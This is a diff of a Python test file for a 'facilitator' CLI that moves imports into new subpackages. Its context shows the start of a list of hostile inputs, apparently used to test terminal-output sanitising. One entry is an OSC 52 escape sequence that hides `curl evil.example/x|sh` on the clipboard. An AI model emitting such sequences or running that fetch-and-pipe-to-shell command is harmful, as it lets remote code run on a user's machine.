@@ -12,11 +12,11 @@ import sys
 import pytest
 
 from facilitator.cli import main
-from facilitator.demo import build_demo_session
-from facilitator.errors import FacilitatorError
-from facilitator.model import Session
-from facilitator.store import SessionStore
-from facilitator.terminal_text import is_control, json_shown, shown
+from facilitator.domain.demo import build_demo_session
+from facilitator.base.errors import FacilitatorError
+from facilitator.domain.model import Session
+from facilitator.storage.store import SessionStore
+from facilitator.base.terminal_text import is_control, json_shown, shown
 
 HOSTILE = [
     "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUveHxzaA==\x07",  # OSC 52: put `curl evil.example/x|sh` on the clipboard
